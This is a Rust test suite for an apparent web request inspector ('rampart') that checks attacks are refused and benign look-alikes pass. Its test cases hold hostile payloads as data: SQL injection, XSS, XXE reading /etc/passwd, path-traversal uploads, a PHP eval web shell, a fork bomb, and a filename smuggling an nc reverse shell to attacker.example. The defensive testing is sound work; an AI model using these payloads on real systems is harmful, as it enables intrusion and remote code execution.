use std::time::Duration;

use super::*;
use rampart_detect::PolicyConfig;

fn policy(forward: Forward) -> InspectionPolicy {
    let engine = Engine::builtin();
    InspectionPolicy {
        enforcement: Some(Enforcement::Block),
        max_body: rampart_core::units::ByteSize::mib(1),
        oversize: Oversize::Refuse,
        options: rampart_parse::Options {
            canonical: forward == Forward::Canonical,
            ..Default::default()
        },
        limits: Arc::new(rampart_parse::Limits::default()),
        forward,
        detection: Arc::new(
            rampart_detect::Policy::from_config(&PolicyConfig::default(), &engine).unwrap(),
        ),
        antivirus: None,
        contract: None,
        xml_schema: None,
        seen: Default::default(),
    }
}

fn head(uri: &str, headers: &[(&str, &str)]) -> HeadView {
    let mut map = HeaderMap::new();
    for (k, v) in headers {
        map.append(
            http::HeaderName::from_bytes(k.as_bytes()).unwrap(),
            v.parse().unwrap(),
        );
    }
    HeadView {
        method: http::Method::POST,
        uri: uri.parse().unwrap(),
        headers: map,
    }
}

/// Parses `body` as `content_type` with default limits, as the inspector would.
fn parse_with<'a>(content_type: Option<&str>, body: &'a Bytes) -> rampart_parse::Parsed<'a> {
    let limits = rampart_parse::Limits::default();
    rampart_parse::parse(
        content_type,
        body,
        &limits,
        rampart_parse::Options::default(),
    )
    .unwrap()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

/// The built-in engine, no antivirus, the default large-inspection slots.
fn inspector() -> Inspector {
    inspector_with_slots(None)
}

fn inspector_with_slots(slots: Option<usize>) -> Inspector {
    let engine = Arc::new(Engine::builtin());
    Inspector {
        rules: Arc::new(super::rulemodes::RuleModes::new(&engine)),
        engine,
        scanners: Scanners::default(),
        slots: Arc::new(LargeSlots::new(slots)),
    }
}

async fn run(uri: &str, headers: &[(&str, &str)], body: &[u8], forward: Forward) -> Inspected {
    let inspector = inspector();
    inspector
        .inspect(
            &policy(forward),
            head(uri, headers),
            Bytes::copy_from_slice(body),
        )
        .await
}

fn outcome(inspected: &Inspected) -> Result<(), (Reason, Option<String>)> {
    match &inspected.decision {
        Ok(_) => Ok(()),
        Err(d) => Err((d.reason, d.rule.clone())),
    }
}

#[tokio::test]
async fn attacks_anywhere_in_the_request_are_refused_and_look_alikes_pass() {
    let json = [("content-type", "application/json")];
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a [u8], Option<Reason>);
    let cases: Vec<Case<'_>> = vec![
        (
            "/plans",
            &json,
            br#"{"note":"select your plan","name":"O'Reilly"}"#,
            None,
        ),
        (
            "/plans",
            &json,
            br#"{"q":"1' OR '1'='1' --"}"#,
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &json,
            br#"{"nested":"{\"x\":\"<script>alert(1)</script>\"}"}"#,
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &json,
            br#"{"b64":"JyBPUiAnMSc9JzEnIC0t"}"#,
            Some(Reason::AttackDetected),
        ),
        (
            "/plans?id=1%27%20union%20select%20password%20from%20users--",
            &[],
            b"",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &json,
            br#"{"role":"user","role":"admin"}"#,
            Some(Reason::UnprocessableContent),
        ),
        ("/plans", &json, br#"{"a":1"#, Some(Reason::BadRequest)),
        // GraphQL-over-JSON on a route not declared GraphQL still meets the GraphQL
        // limits; JSON with a "query" key that is no GraphQL stays JSON.
        (
            "/api",
            &json,
            br#"{"query":"{ u { f { f { f { f { f { f { f { f { f { f { f { f { f { f { f { x } } } } } } } } } } } } } } } } }"}"#,
            Some(Reason::BodyTooLarge),
        ),
        (
            "/api",
            &json,
            br#"{"query":"{ user(id: 1) { name } }"}"#,
            None,
        ),
        (
            "/api",
            &json,
            br#"{"query":"wireless headphones","page":2}"#,
            None,
        ),
        (
            "/plans",
            &[("content-type", "application/octet-stream")],
            b"\x00\x01",
            Some(Reason::UnsupportedMediaType),
        ),
        (
            "/plans",
            &[("content-type", "application/xml")],
            b"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            Some(Reason::AttackDetected),
        ),
        // Refused by the strict parser, but an attack in the raw text is the finding.
        ("/plans", &json, b"1' OR '1'='1' --", Some(Reason::AttackDetected)),
        ("/plans", &json, b"just some text", Some(Reason::BadRequest)),
        (
            "/plans",
            &[("content-type", "application/octet-stream")],
            b"<script>alert(1)</script>",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &[("content-type", "multipart/form-data; boundary=XyZ")],
            b"--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-\r\n--XyZ--\r\n",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &[("content-type", "multipart/form-data; boundary=XyZ")],
            b"--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=shift_jis\r\n\r\nhello\r\n--XyZ--\r\n",
            Some(Reason::UnsupportedMediaType),
        ),
        // A file name the parser refuses: an attack in it is the finding, a name that is
        // only unsafe for a file system stays unprocessable.
        (
            "/plans",
            &[("content-type", "multipart/form-data; boundary=XyZ")],
            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../../var/www/html/shell.php\"\r\n\r\nGIF89a;\r\n--XyZ--\r\n",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &[("content-type", "multipart/form-data; boundary=XyZ")],
            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg|nc attacker.example 4444 -e /bin/sh\"\r\n\r\nx\r\n--XyZ--\r\n",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &[("content-type", "multipart/form-data; boundary=XyZ")],
            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x\" onfocus=\"alert(1)\" autofocus=\".jpg\"\r\n\r\nx\r\n--XyZ--\r\n",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &[("content-type", "multipart/form-data; boundary=XyZ")],
            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename*=UTF-8''..%2F..%2Fopt%2Ftomcat%2Fwebapps%2FROOT%2Fcmd.jsp\r\n\r\nx\r\n--XyZ--\r\n",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &[("content-type", "multipart/form-data; boundary=XyZ")],
            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"reports/2024/q3 summary.pdf\"\r\n\r\nx\r\n--XyZ--\r\n",
            Some(Reason::UnprocessableContent),
        ),
        (
            "/plans",
            &[("content-type", "multipart/form-data; boundary=XyZ")],
            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"C:\\Users\\Anna\\Pictures\\holiday.jpg\"\r\n\r\nx\r\n--XyZ--\r\n",
            Some(Reason::BadRequest),
        ),
        // An uploaded SVG that declares an external entity; a drawing program's SVG
        // with its public DTD and text entities passes.
        (
            "/plans",
            &[("content-type", "multipart/form-data; boundary=XyZ")],
            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&xxe;</text></svg>\r\n--XyZ--\r\n",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &[("content-type", "multipart/form-data; boundary=XyZ")],
            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"logo.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">]><svg xmlns=\"&ns_svg;\"><path d=\"M0 0h24v24H0z\"/></svg>\r\n--XyZ--\r\n",
            None,
        ),
        // A PHP shell behind an image header; an ordinary text file passes.
        (
            "/plans",
            &[("content-type", "multipart/form-data; boundary=XyZ")],
            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"cat.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nGIF89a\n<?php eval($_POST['d']); ?>\r\n--XyZ--\r\n",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &[("content-type", "multipart/form-data; boundary=XyZ")],
            b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"notes.txt\"\r\nContent-Type: text/plain\r\n\r\nRun php -v; then open https://example.com/?a=1&b=2\r\n--XyZ--\r\n",
            None,
        ),
        // A form value whose character references were cut apart at their `&`.
        (
            "/plans",
            &[("content-type", "application/x-www-form-urlencoded")],
            b"q=<string>7&#39; OR &#39;x&#39;=&#39;x</string>",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &[("content-type", "application/x-www-form-urlencoded")],
            b"q=Tom+%26+Jerry&note=fish+%26amp%3B+chips",
            None,
        ),
        // A form value cut apart at a raw `&`, leaving names no client writes.
        (
            "/plans",
            &[("content-type", "application/x-www-form-urlencoded")],
            b"q=a&& echo %USERNAME%",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &[("content-type", "application/x-www-form-urlencoded")],
            b"q=f(){ f|f& };f",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &[("content-type", "application/x-www-form-urlencoded")],
            b"q=Tom & Jerry&page=2",
            None,
        ),
        // Screened whole, the form still decodes as form text (`+` and escapes): a
        // tautology cut at its `=` shows again only then.
        (
            "/plans",
            &[("content-type", "application/x-www-form-urlencoded")],
            b"%27admin%27%2C+%271%27=%271%27",
            Some(Reason::AttackDetected),
        ),
        (
            "/plans",
            &[("content-type", "application/x-www-form-urlencoded")],
            b"%27quoted%27+name=O%27Reilly%2C+Tim",
            None,
        ),
        (
            "/plans",
            &[("content-type", "application/xml")],
            b"<order><item id=\"2\">Tom &amp; Jerry</item></order>",
            None,
        ),
    ];
    for (uri, headers, body, want) in cases {
        let got = run(uri, headers, body, Forward::Canonical).await;
        match want {
            None => assert!(got.decision.is_ok(), "{uri} {body:?}: {:?}", outcome(&got)),
            Some(reason) => {
                assert_eq!(
                    outcome(&got).err().map(|e| e.0),
                    Some(reason),
                    "{uri} {}",
                    String::from_utf8_lossy(body)
                );
            }
        }
    }
}

#[tokio::test]
async fn a_compressed_attack_is_found_and_the_backend_gets_what_was_inspected() {
    let headers = [
        ("content-type", "application/json"),
        ("content-encoding", "gzip"),
    ];
    let attack = gzip(br#"{"cmd":"; cat /etc/passwd"}"#);
    let got = run("/x", &headers, &attack, Forward::Canonical).await;
    assert_eq!(
        outcome(&got).err().map(|e| e.0),
        Some(Reason::AttackDetected)
    );

    let clean = gzip(br#"{ "a" : [1, 2],  "b":"x" }"#);
    let got = run("/x", &headers, &clean, Forward::Canonical).await;
    let cleared = got.decision.unwrap();
    assert!(cleared.decoded, "Content-Encoding must be dropped");
    assert_eq!(&cleared.body[..], br#"{"a":[1,2],"b":"x"}"#);

    let got = run("/x", &headers, &clean, Forward::Original).await;
    let cleared = got.decision.unwrap();
    assert!(!cleared.decoded);
    assert_eq!(&cleared.body[..], &clean[..]);
}

#[test]
fn file_names_are_read_from_dispositions_as_lenient_backends_read_them() {
    let body = "--b\r\nContent-Disposition: form-data; name=\"a\"; filename=\"x\" onfocus=\"y\".jpg\"\r\n\r\n1\r\n\
                --b\r\ncontent-disposition: form-data; name=\"c\"; FILENAME = plain.txt; size=3\r\n\r\n2\r\n\
                --b\r\nContent-Disposition: form-data; name=\"d\"; filename*=UTF-8'en'%2e%2e%2fa.jsp\r\n\r\n3\r\n\
                --b\r\nContent-Disposition: form-data; name=\"filename\"\r\n\r\nfilename=\"not a header\"\r\n--b--\r\n";
    assert_eq!(
        part_file_names(body),
        ["x\" onfocus=\"y\".jpg", "plain.txt", "%2e%2e%2fa.jsp"]
    );
    assert!(part_file_names("filename=\"a\"").is_empty());
}

#[test]
fn embedded_base64_files_are_scan_targets() {
    let eicar = br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    let encoded = base64::engine::general_purpose::STANDARD.encode(eicar);
    let body = Bytes::from(format!(r#"{{"file":"{encoded}","id":"42"}}"#));
    let parsed = parse_with(Some("application/json"), &body);
    let targets = targets::collect(&parsed, &body, Some("application/json"), &|_| true);
    assert_eq!(
        targets.len(),
        3,
        "the body, its text values and the decoded file"
    );
    assert_eq!(&targets[2][..], &eicar[..]);
}

#[test]
fn escaped_text_and_multipart_fields_are_scanned_as_the_backend_reads_them() {
    let body = Bytes::from_static(br#"{"comment":"MARK\u0045R"}"#);
    let parsed = parse_with(Some("application/json"), &body);
    let targets = targets::collect(&parsed, &body, Some("application/json"), &|_| true);
    assert!(
        targets.iter().any(|t| t.windows(6).any(|w| w == b"MARKER")),
        "{targets:?}"
    );

    let multipart = Bytes::from_static(
        b"--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nMARKER text\r\n--b--\r\n",
    );
    let parsed = parse_with(Some("multipart/form-data; boundary=b"), &multipart);
    let targets = targets::collect(&parsed, &multipart, Some("multipart/form-data"), &|_| true);
    assert!(
        targets.iter().any(|t| t.windows(6).any(|w| w == b"MARKER")),
        "{targets:?}"
    );
}

#[test]
fn a_route_can_limit_scanning_to_media_types() {
    let av = AvPolicy {
        fail: FailMode::Close,
        enforcement: Enforcement::Block,
        engines: Engines::All,
        allow_oversize: false,
        content_types: vec!["application/pdf".to_owned(), "image/*".to_owned()].into(),
    };
    let cases = [
        (Some("application/pdf"), true),
        (Some("Application/PDF; name=x"), true),
        (Some("image/png"), true),
        (Some("application/json"), false),
        (Some("imagex/png"), false),
        (None, true), // undeclared content is always scanned
    ];
    for (declared, want) in cases {
        assert_eq!(av.scans(declared), want, "{declared:?}");
    }
    let body = Bytes::from_static(b"--b\r\nContent-Disposition: form-data; name=\"a\"; filename=\"a.pdf\"\r\nContent-Type: application/pdf\r\n\r\nPDF\r\n--b\r\nContent-Disposition: form-data; name=\"b\"; filename=\"b.bin\"\r\nContent-Type: application/zip\r\n\r\nZIP\r\n--b--\r\n");
    let parsed = parse_with(Some("multipart/form-data; boundary=b"), &body);
    let targets = targets::collect(
        &parsed,
        &body,
        Some("multipart/form-data; boundary=b"),
        &|t| av.scans(t),
    );
    assert!(targets.iter().any(|t| &t[..] == b"PDF"), "{targets:?}");
    assert!(!targets.iter().any(|t| &t[..] == b"ZIP"), "{targets:?}");
}

#[test]
fn the_inspection_future_does_not_carry_the_rare_scans_inline() {
    // Every exchange's future holds this one and is moved (copied) whole several times
    // per request; the antivirus and schema futures are large and boxed on their rare
    // path. Before they were boxed this future was over 12 KiB.
    let inspector = inspector();
    let policy = policy(Forward::Canonical);
    let future = inspector.inspect(&policy, head("/", &[]), Bytes::new());
    let size = std::mem::size_of_val(&future);
    assert!(size <= 4096, "inspection future is {size} bytes");
}

#[tokio::test]
async fn large_bodies_wait_for_a_blocking_slot() {
    let inspector = inspector_with_slots(Some(3));
    let policy = policy(Forward::Canonical);
    let item = r#"{"sku":"SKU-1001-A","qty":2,"note":"leave at the desk"},"#;
    let mut json = format!("[{}", item.repeat(BLOCKING_THRESHOLD / item.len() + 1));
    json.pop();
    json.push(']');
    let body = Bytes::from(json);
    let json_head = || head("/orders", &[("content-type", "application/json")]);
    // Every slot taken...
    let slots = inspector.slots.permits();
    let all = u32::try_from(inspector.slots.count()).unwrap();
    assert_eq!(all, 3);
    let held = slots.acquire_many(all).await.unwrap();
    let waiting = inspector.inspect(&policy, json_head(), body.clone());
    tokio::pin!(waiting);
    let early = tokio::time::timeout(Duration::from_millis(300), &mut waiting).await;
    assert!(early.is_err(), "inspected without a slot");
    let gauge = |name: &str| -> usize {
        let text = inspector.slots.render_metrics();
        let line = text.lines().find(|l| l.starts_with(&format!("{name} ")));
        line.and_then(|l| l.rsplit(' ').next()?.parse().ok())
            .unwrap_or_else(|| panic!("{name} missing: {text}"))
    };
    assert!(gauge("rampart_inspection_large_waiting") >= 1);
    assert_eq!(gauge("rampart_inspection_large_slots"), 3);
    assert_eq!(gauge("rampart_inspection_large_in_flight"), 3);
    // ...and one freed: it goes ahead, and gives the slot back when done.
    drop(held);
    let inspected = waiting.await;
    assert!(outcome(&inspected).is_ok(), "{:?}", inspected.decision);
    // Its wait is on record, at least as long as the slots were held.
    assert_eq!(gauge("rampart_inspection_large_wait_seconds_count"), 1);
    assert_eq!(
        gauge("rampart_inspection_large_wait_seconds_bucket{le=\"0.1\"}"),
        0
    );
    assert_eq!(gauge("rampart_inspection_large_waiting"), 0);
    // A small body never waits for one (all taken again: the one used came back).
    let held = tokio::time::timeout(Duration::from_secs(10), slots.acquire_many(all))
        .await
        .expect("a slot was not given back")
        .unwrap();
    let small = inspector.inspect(&policy, json_head(), Bytes::from_static(b"{\"a\":1}"));
    let small = tokio::time::timeout(Duration::from_secs(10), small).await;
    assert!(small.is_ok_and(|i| outcome(&i).is_ok()));
    assert_eq!(gauge("rampart_inspection_large_wait_seconds_count"), 1);
    drop(held);
}

#[tokio::test]
async fn graphql_over_get_meets_the_route_limits_and_may_not_mutate() {
    let mut graphql = policy(Forward::Canonical);
    graphql.options.graphql = true;
    let deep = format!("{{{}x{}}}", "a{".repeat(16), "}".repeat(16));
    let deep = deep.replace('{', "%7B").replace('}', "%7D");
    let aliases: String = (0..31).map(|i| format!("a{i}:me+")).collect();
    type Case = (
        http::Method,
        String,
        Result<(), (Reason, Option<&'static str>)>,
    );
    // A limit crossed in the URL is a bad request, not a body too large.
    let over_limit = |rule| Err((Reason::BadRequest, Some(rule)));
    let cases: Vec<Case> = vec![
        (
            http::Method::GET,
            "/graphql?query=%7Bme%7Bname%7D%7D".into(),
            Ok(()),
        ),
        (
            http::Method::GET,
            "/graphql?query=query%7Bsearch(text:%22o'reilly%22)%7Bid%7D%7D".into(),
            Ok(()),
        ),
        (http::Method::GET, "/graphql?page=2".into(), Ok(())),
        (
            http::Method::GET,
            format!("/graphql?query={deep}"),
            over_limit("graphql-too-deep"),
        ),
        (
            http::Method::GET,
            format!("/graphql?query=%7B{aliases}%7D"),
            over_limit("graphql-too-many-aliases"),
        ),
        (
            http::Method::GET,
            format!("/graphql?query=%7B__typename+{}%7D", "@a+".repeat(60)),
            over_limit("graphql-too-many-directives"),
        ),
        (
            http::Method::GET,
            "/graphql?query=mutation%7BdeleteAccount%7D".into(),
            Err((Reason::MethodNotAllowed, Some("graphql-mutation-over-get"))),
        ),
        (
            http::Method::POST,
            "/graphql?query=mutation%7BdeleteAccount%7D".into(),
            Ok(()),
        ),
        (
            http::Method::GET,
            "/graphql?query=%7Ba%7D&query=%7Bb%7D".into(),
            Err((Reason::UnprocessableContent, Some("graphql-repeated-query"))),
        ),
        (
            http::Method::GET,
            "/graphql?query=%7Buser(id:%221%27+OR+%271%27=%271%22)%7Bname%7D%7D".into(),
            Err((Reason::AttackDetected, None)),
        ),
    ];
    for (method, uri, want) in cases {
        let mut view = head(&uri, &[]);
        view.method = method.clone();
        let inspected = inspector().inspect(&graphql, view, Bytes::new()).await;
        match (outcome(&inspected), want) {
            (Ok(()), Ok(())) => {}
            // Which detection rule fired is the engine's business.
            (Err((reason, _)), Err((want, None))) => assert_eq!(reason, want, "{method} {uri}"),
            (got, want) => assert_eq!(
                got.map_err(|(r, rule)| (r, rule.unwrap_or_default())),
                want.map_err(|(r, rule)| (r, rule.unwrap_or_default().to_owned())),
                "{method} {uri}"
            ),
        }
    }
    // The argument is named where it sits; a route that is no GraphQL one parses nothing.
    let uri = "/graphql?query=%7Buser(id:%22%3Cscript%3Ealert(1)%3C/script%3E%22)%7Bname%7D%7D";
    let inspected = inspector()
        .inspect(&graphql, head(uri, &[]), Bytes::new())
        .await;
    assert!(
        inspected
            .findings
            .hits
            .iter()
            .any(|h| h.location == "query:query#/user(id)"),
        "{:?}",
        inspected.findings.hits
    );
    let plain = policy(Forward::Canonical);
    let uri = format!("/search?query={deep}");
    let inspected = inspector()
        .inspect(&plain, head(&uri, &[]), Bytes::new())
        .await;
    assert!(inspected.decision.is_ok());
}
